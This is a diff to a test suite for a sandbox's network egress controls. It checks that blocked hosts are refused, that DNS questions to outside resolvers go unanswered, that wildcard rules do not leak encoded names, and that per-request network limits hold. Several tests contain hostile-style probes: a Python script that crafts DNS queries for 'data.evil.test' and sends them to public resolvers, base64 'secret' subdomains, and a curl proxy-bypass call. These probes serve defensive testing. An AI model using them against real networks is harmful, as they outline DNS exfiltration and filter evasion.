@@ -102,10 +102,13 @@ describe("what is not allowed does not get out", () => {
       // The same in IPv6's many clothes: 6to4, NAT64, Teredo.
       const dressed = ["2002:5db8:d822::1", "64:ff9b::5db8:d822", "2001:0:5db8:d822::1", "fe80::1"];
       const to = [...literals, ...dressed].flatMap((host) => PORTS.map((port) => [host, port]));
-      for (const answer of await probe(sandbox, { op: "tcp", to })) {
-        expect(answer.error ?? answer.got).not.toBe(undefined);
-        expect(answer.got ?? "").toBe("");
-        expect(answer.seconds).toBeLessThan(1);
+      // Refused, and not left to wait until their patience is over.
+      for (const answer of await probe(sandbox, { op: "tcp", to, wait: 20 })) {
+        const isRefused = answer.error !== undefined && answer.error !== "TimeoutError";
+        expect({ isRefused: isRefused || answer.closed, got: answer.got ?? "" }).toEqual({
+          isRefused: true,
+          got: "",
+        });
       }
       const bypass = await sandbox.run(
         ["curl", "-sS", "--noproxy", "*", "--max-time", "3", `http://${WORLD}/`],
@@ -154,6 +157,124 @@ describe("what is not allowed does not get out", () => {
       .filter(({ kind }) => kind === "dns")
       .map(({ what }) => what);
     expect(asked.sort()).toEqual(["A api.allowed.test", "AAAA api.allowed.test"]);
+  });
+
+  it("EG-4 asked directly, for any type, by any protocol, no resolver outside hears of it", async () => {
+    await bench.lab.name("data.evil.test", [WORLD]);
+    const types = { A: 1, NULL: 10, MX: 15, TXT: 16, AAAA: 28, SRV: 33, HTTPS: 65, ANY: 255 };
+    const ask = (name: string, type: number) => [
+      ...[7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0],
+      ...name.split(".").flatMap((label) => [label.length, ...Buffer.from(label)]),
+      ...[0, 0, type, 0, 1],
+    ];
+    const script = `
+import json, socket
+order = json.load(open("/home/user/questions.json"))
+for server in order["servers"]:
+    for question in order["questions"]:
+        for port in (53, 853, 5353):
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+                one.settimeout(0.01)
+                try: one.sendto(bytes(question), (server, port)); one.recv(4096)
+                except OSError: pass
+    for port in (53, 443, 853):
+        with socket.socket() as one:
+            one.settimeout(1)
+            try:
+                one.connect((server, port))
+                one.sendall(len(question).to_bytes(2, "big") + bytes(question)); one.recv(4096)
+            except OSError: pass
+print("done")`;
+    const questions = ["data.evil.test", "api.allowed.test", `${"a".repeat(63)}.evil.test`].flatMap((name) =>
+      Object.values(types).map((type) => ask(name, type)),
+    );
+    // The one inside too: it knows names and nobody to ask about them.
+    const inside = text((await sandbox.run(["cat", "/etc/resolv.conf"])).stdout);
+    const [, own = ""] = /nameserver (\S+)/.exec(inside) ?? [];
+    const servers = [own, WORLD, "8.8.8.8", "1.1.1.1"];
+    await sandbox.files.write("/home/user/questions.json", [
+      new TextEncoder().encode(JSON.stringify({ servers, questions })),
+    ]);
+    await silent(async () => {
+      const { stdout } = await sandbox.run(["python3", "-c", script], { timeoutMs: 100_000 });
+      expect(text(stdout)).toBe("done\n");
+      for (const url of ["https://dns.google/dns-query?dns=AAAB", `https://${WORLD}/dns-query?dns=AAAB`]) {
+        await curl(sandbox, "--insecure", url);
+      }
+    });
+  });
+
+  it("EG-4 under a star a name is asked for when somebody connects, by its addresses alone", async () => {
+    const starred = await bench.sandbox({ rules: [{ host: "*.star.test", protocol: "tcp", ports: [80] }] });
+    await bench.lab.name("c2vjcmv0.star.test", [WORLD]);
+    await silent(async () => {
+      for (const name of [
+        "c2VjcmV0.star.test",
+        "a.b.star.test",
+        "star.test",
+        `${"x".repeat(64)}.star.test`,
+      ]) {
+        await starred.run(["getent", "hosts", name]);
+      }
+      for (const name of ["a.b.star.test", "star.test", `${"x".repeat(64)}.star.test`]) {
+        await curl(starred, `http://${name}/`);
+      }
+    });
+    expect(text((await curl(starred, "http://c2VjcmV0.star.test/")).stdout)).toContain("hello");
+    const asked = (await bench.lab.look()).records.flatMap(({ kind, what }) =>
+      kind === "dns" ? [what] : [],
+    );
+    expect(asked.sort()).toEqual(["A c2vjcmv0.star.test", "AAAA c2vjcmv0.star.test"]);
+  });
+
+  it("EG-4 under a star so many names are asked for within a minute, and no more", async () => {
+    const host = "spelt.star.test";
+    await bench.lab.name(host, [WORLD]);
+    const tcp = { protocol: "tcp" as const, ports: [7000] };
+    const starred = await bench.sandbox({
+      rules: [
+        { host: "*.star.test", ...tcp },
+        { host, ...tcp },
+      ],
+    });
+    const script = `
+import socket
+for number in range(200):
+    try: socket.create_connection((f"n{number}.star.test", 7000), 20).close()
+    except OSError: pass
+with socket.create_connection(("${host}", 7000), 20) as one:
+    one.sendall(b"in"); print(one.recv(2).decode())`;
+    const { stdout } = await starred.run(["python3", "-c", script], { timeoutMs: 100_000 });
+    expect(text(stdout), "one that a rule spells out").toBe("in\n");
+    const { records } = await bench.lab.look();
+    const asked = records.filter(({ what }) => /^A n\d+\.star\.test$/.test(what));
+    expect(asked.length).toBeGreaterThanOrEqual(120);
+    expect(asked.length).toBeLessThan(200);
+    const reason = "more than 120 names that no rule spells out, within a minute";
+    const reasons = async () => (await starred.networkCalls()).calls.map((call) => call.reason);
+    await expect.poll(reasons, { timeout: 30_000 }).toContain(reason);
+  });
+
+  it("EG-5 each request is held to the networks that its own rules name, also after another was there", async () => {
+    await bench.lab.name("lan.allowed.test", [PRIVATE]);
+    const host = "lan.allowed.test";
+    const named = { host, protocol: "http" as const, methods: ["GET"], cidrs: ["10.0.0.0/8"] };
+    const unnamed = { host, protocol: "http" as const, methods: ["POST"] };
+    const tricked = await bench.sandbox({ rules: [named, unnamed] });
+    const codes = "-s -o /dev/null -w %{http_code}\\n".split(" ");
+    const both = await curl(
+      tricked,
+      ...codes,
+      `http://${host}/`,
+      "--next",
+      ...codes,
+      "-d",
+      "x",
+      `http://${host}/`,
+    );
+    expect(text(both.stdout)).toBe("200\n403\n");
+    const { records } = await bench.lab.look();
+    expect(records.flatMap(({ kind, what }) => (kind === "request" ? [what] : []))).toEqual(["GET /"]);
   });
 
   it("EG-5 a name that leads inside a network leads nowhere, unless a rule names the network", async () => {
